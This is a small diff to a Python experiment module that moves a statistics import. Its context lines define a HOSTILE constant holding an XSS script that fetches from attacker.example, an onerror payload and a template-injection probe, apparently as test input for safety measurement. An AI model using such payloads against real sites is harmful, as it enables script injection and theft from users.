@@ -14,7 +14,8 @@ import numpy as np
 from safetyheads.experiments.outcome import Column, Figure, Measured, Outcome, Row, Table
 from safetyheads.experiments.settings import ReproductionConfig
 from safetyheads.runs.directory import RESULTS_VERSION, RunDirectory
-from safetyheads.stats.intervals import Rate, paired_difference
+from safetyheads.stats.intervals import Rate
+from safetyheads.stats.testing import paired_difference
 
 HOSTILE = '<script>fetch("https://attacker.example")</script><img src=x onerror=alert(1)> {{ 7*7 }}'
 N = 24
